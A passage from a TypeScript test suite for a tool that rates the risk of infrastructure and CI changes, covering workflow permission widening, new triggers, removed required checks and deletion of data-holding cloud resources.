  const program = update(FILE, { file: ".github/ci/verdict.mjs", content: "a" }, { file: ".github/ci/verdict.mjs", content: "b" });

  test("what is another is told more quietly, and still told", () => {
    expect([severities(renamed, given), severities(program, given)]).toEqual([["workflow-changed medium"], ["gate-program-changed medium"]]);
    const [danger] = reportOf(eventsOf([renamed], [given])).dangers;
    expect(plainSentence(danger!.sentence)).toBe(".github/workflows/pr.yaml is changed: it differs in commands. Read its difference. The stack's manifest says the same.");
  });

  test.each<[string, object[]]>([
    ["no policy judged", []],
    ["the manifest's policy found something", [judged("manifest-given")]],
    ["there is no manifest to be held to", [judged("resources-as-intended")]],
  ])("not where %s", (_, events) => {
    expect([severities(renamed, ...events), severities(program, ...events)]).toEqual([["workflow-changed high"], ["gate-program-changed critical"]]);
  });

  test("what is looser stays loud, also where config says so", () => {
    const loose = flow({ permissions: {}, jobs: { test: JOB } }, { permissions: {}, on: "pull_request_target", jobs: { test: { ...JOB, environment: "main", "continue-on-error": true, permissions: { contents: "write" } } } });
    const told = severities(loose, given);
    for (const kind of ["workflow-permissions-widened", "workflow-environment-added", "workflow-error-ignored", "workflow-trigger-added"]) expect(told).toContain(`${kind} critical`);
    expect(told).toContain("workflow-changed medium");
    expect(severities(update(FILE, { file: ".github/workflows/a.yml", content: "jobs: {}" }, { file: ".github/workflows/a.yml", content: "a: [" }), given)).toEqual(["workflow-changed high"]);
    expect(severities(remove(FILE, { file: ".github/ci/plan.mjs", content: "a" }), given)).toEqual(["gate-program-changed critical"]);
    expect(severities(update(RULESET, checks({ context: "a", integrationId: 1 }), checks()), given)).toContain("required-check-removed critical");
  });
});

describe("what comes and goes together", () => {
  test("a new workflow that has the rights of the default branch is told, beside files that were there; by hand it may be started", () => {
    const made = (on: string): MadeStep => create(FILE, { file: ".github/workflows/new.yml", content: `on: ${on}` }, { name: "new" });
    const there = update(FILE, { file: "README.md", content: "a" }, { file: "README.md", content: "b" }, { name: "readme" });
    const told = (...steps: MadeStep[]): string[] => dangersOf(...steps).map(({ kind }) => kind);
    expect([told(made("issue_comment"), there), told(made("workflow_dispatch"), there), told(made("push"), there), told(made("issue_comment"))]).toEqual([["workflow-trigger-added"], [], [], []]);
  });

  test("a new job that does what other jobs of the file do makes the file no stronger", () => {
    const strong = { ...JOB, environment: "main", permissions: { "id-token": "write" }, env: { T: "${{ secrets.A }}" } };
    const stronger = { ...strong, environment: "other", permissions: { "id-token": "write", contents: "write" }, env: { T: "${{ secrets.B }}" } };
    const kinds = (job: Fields): string[] => dangersOf(flow({ jobs: { a: strong } }, { jobs: { a: strong, b: job } })).map(({ kind }) => kind);
    expect(kinds(strong)).toEqual(["workflow-changed"]);
    expect(kinds(stronger)).toEqual(["workflow-environment-added", "workflow-permissions-widened", "workflow-changed", "workflow-secret-added"]);
  });

  test("a new environment's branches open nothing that was closed", () => {
    const steps = [create(ENVIRONMENT, { environment: "new" }, { name: "e" }), create(POLICY, { environment: "new", branchPattern: "main" }, { name: "p" })];
    expect(dangersOf(...steps)).toEqual([]);
  });

  test("what guards a namespace goes with it", () => {
    const steps = [remove("kubernetes:core/v1:Namespace", { metadata: { name: "arc-gpu" } }, { name: "n" }), remove("kubernetes:core/v1:ResourceQuota", namespaced("runners"), { name: "q" }), remove("kubernetes:networking.k8s.io/v1:NetworkPolicy", namespaced("runners"), { name: "t" })];
    expect(dangersOf(...steps).map(({ kind }) => kind)).toEqual(["namespace-deleted"]);
  });

  test("a new role's permissions are part of its being new", () => {
    const steps = [create(ROLE, { name: "r", assumeRolePolicy: trust("a") }, { name: "role" }), create("aws:iam/rolePolicy:RolePolicy", { role: "r", policy: policy(allow("s3:GetObject")) }, { name: "policy" })];
    expect(dangersOf(...steps).map(({ kind }) => kind)).toEqual(["identity-created"]);
  });

  test("a principal is told by the name of the identity that has it", () => {
    const identity: MadeStep = { op: "same", type: "azure-native:managedidentity:UserAssignedIdentity", name: "i", old: { resourceName: "deployer" }, new: {}, outputs: { principalId: "identity-1", name: "deployer" } };
    const dangers = dangersOf(identity, create("azure-native:authorization:RoleAssignment", assignment(), { name: "a" }));
    expect(dangers.map(({ sentence }) => plainSentence(sentence))).toEqual(["deployer gets the role Reader on resourceGroups/group: Reads."]);
  });
});

describe("what goes in a foreign type, or in another version of one", () => {
  const kinds = (type: string, op: "delete" | "replace"): string[] => dangersOf({ op, type, old: { name: "a" }, ...(op === "replace" ? { new: { name: "b" }, keys: ["name"] } : {}) }).map(({ kind }) => kind);

  test.each([
    "aws:rds/instance:Instance",
    "aws-native:rds:DBInstance",
    "azure-native:sql/v20230801:Database",
    "azure:mssql/database:Database",
    "gcp:sql/databaseInstance:DatabaseInstance",
    "mongodbatlas:index/cluster:Cluster",
    "github:index/repository:Repository",
    "aws:ebs/volume:Volume",
    "azure-native:compute:Disk",
    "kubernetes:core/v1:PersistentVolume",
    "kubernetes:apps/v1:StatefulSet",
    "kubernetes:apps/v1beta2:StatefulSet",
    "kubernetes:apiextensions.k8s.io/v1:CustomResourceDefinition",
    "aws:eks/cluster:Cluster",
    "gcp:container/cluster:Cluster",
    "azure-native:containerservice/v20230501:ManagedCluster",
    "azure-native:containerservice/v20240101preview:ManagedCluster",
    "azure-native:containerregistry/v20230701:Registry",
    "aws:s3/bucketV2:BucketV2",
  ])("%s holds data: its deletion and its replacement are critical", (type) => {
    expect(kinds(type, "delete")).toContain("stateful-deleted");
    expect(kinds(type, "replace")).toContain("stateful-replaced");
  });

  test.each([
    ["azure-native:containerservice/v20230501:AgentPool", "pool-deleted"],
    ["kubernetes:extensions/v1beta1:NetworkPolicy", "network-policy-removed"],
    ["azure-native:managedidentity/v20230131:UserAssignedIdentity", "identity-deleted"],
  ])("%s in another version of its API is the same to a detector", (type, kind) => {
    expect(kinds(type, "delete")).toEqual([kind]);
    expect(dangersOf({ op: "delete", type, old: { name: "a" } })[0]!.resource!.type).toBe(type);
  });

  test.each(["datadog:index/monitor:Monitor", "kubernetes:networking.k8s.io/v1:Ingress", "kubernetes:apps/v1:Deployment", "aws:lambda/function:Function"])("%s, of which nothing is known, is told carefully", (type) => {
    expect([kinds(type, "delete"), kinds(type, "replace")]).toEqual([["unknown-deleted"], ["unknown-replaced"]]);
    expect(reportOf(eventsOf([{ op: "delete", type, old: { name: "a" } }])).headline.verdict).toBe("careful");
  });

  test("a component, a provider and the policy of a bucket hold nothing", () => {
    expect([kinds("gpu-cicd:shared:Database", "delete"), kinds("pulumi:providers:aws", "delete"), kinds("aws:s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration", "delete")]).toEqual([[], [], []]);
  });
});
